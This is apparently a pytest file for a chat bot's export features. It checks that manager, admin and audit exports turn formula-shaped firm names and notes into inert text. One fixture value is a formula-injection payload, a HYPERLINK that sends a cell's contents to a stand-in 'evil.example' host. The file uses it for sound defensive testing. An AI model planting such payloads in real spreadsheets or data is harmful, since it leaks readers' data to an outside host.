"""Exports cannot attack their reader: a firm name or a note shaped like a formula arrives in the
manager's and the admin's workbooks as text, and in the audit CSV as a field no spreadsheet runs."""

from __future__ import annotations

import csv
import io
from collections.abc import AsyncIterator
from pathlib import Path

import pytest_asyncio
from openpyxl import load_workbook

from bot.emulator import BotEvent, FakeBotApi
from bot.services.access import audit
from storage.database import Database
from tests.support.clock import TestClock
from tests.support.factories import FREE_TEXT, add_firm
from tests.support.journeys import publish_round
from tests.support.khooshe import ADMIN_ID, Khooshe, start_khooshe, stop_khooshe
from tests.support.scenarios import MANAGER, OWNERS, prepare_closed_round

LINK = '=HYPERLINK("http://evil.example/?leak="&B2,"Open report")'
NOTE = "=1+1"


@pytest_asyncio.fixture
async def world(api: FakeBotApi, db_path: Path) -> AsyncIterator[Khooshe]:
    async with Database(db_path) as db:
        round_id = await prepare_closed_round(db, OWNERS)
        async with db.transaction() as repo:
            firm = await repo.firms.by_owner(OWNERS[2])
            assert firm is not None
            await repo.conn.execute("UPDATE firms SET name = ? WHERE id = ?", (LINK, firm.id))
            sub = await repo.submissions.for_firm(round_id=round_id, firm_id=firm.id)
            assert sub is not None
            await repo.answers.put(submission_id=sub.id, qid="P3", value=NOTE)
            await repo.submissions.pack([sub.id], free_text=FREE_TEXT)
            await repo.access.add_manager(user_id=MANAGER, estate_id=1, by=ADMIN_ID)
        await add_firm(db, 5400, name="+989121112233")
    for uid in (*OWNERS, MANAGER, ADMIN_ID, 5400):
        api.user(uid)
    running = await start_khooshe(api, db_path, clock=TestClock(), seeded=True, tick_seconds=3600)
    await running.tick()
    await publish_round(running.user(ADMIN_ID), round_id)
    await running.drain()
    yield running
    await stop_khooshe(running)


def formula_cells(doc: BotEvent) -> list[str]:
    assert doc.data is not None
    wb = load_workbook(io.BytesIO(doc.data))
    return [f"{ws.title}!{cell.coordinate}" for ws in wb.worksheets for row in ws.iter_rows()
            for cell in row if cell.data_type == "f"]


def texts(doc: BotEvent) -> set[object]:
    assert doc.data is not None
    wb = load_workbook(io.BytesIO(doc.data))
    return {cell.value for ws in wb.worksheets for row in ws.iter_rows() for cell in row}


async def test_the_estate_export_holds_no_formula(world: Khooshe) -> None:
    manager = world.user(MANAGER)
    await manager.send("/export 1")
    doc = await manager.wait_for(lambda e: e.is_message and e.kind == "document")
    assert formula_cells(doc) == []
    assert {LINK, NOTE} <= texts(doc)


async def test_the_national_export_holds_no_formula(world: Khooshe) -> None:
    admin = world.user(ADMIN_ID)
    await admin.send("/exportall")
    doc = await admin.wait_for(lambda e: e.is_message and e.kind == "document", timeout=20)
    assert formula_cells(doc) == []
    assert LINK in texts(doc)


async def test_the_audit_csv_holds_no_field_a_spreadsheet_would_run(world: Khooshe) -> None:
    async with world.db.transaction() as repo:  # a firm's name, as an audit row's target carries it
        await audit(repo, user_id=ADMIN_ID, action="rename", target=LINK, detail="@SUM(1+1)")
    admin = world.user(ADMIN_ID)
    await admin.send("/auditexport")
    doc = await admin.wait_for(lambda e: e.is_message and e.kind == "document")
    assert doc.data is not None
    rows = list(csv.reader(io.StringIO(doc.data.decode("utf-8-sig"))))
    risky = [field for row in rows for field in row if field[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky == []
    assert next(row[4:6] for row in rows if row[4] == "rename") == ["rename", "'" + LINK]
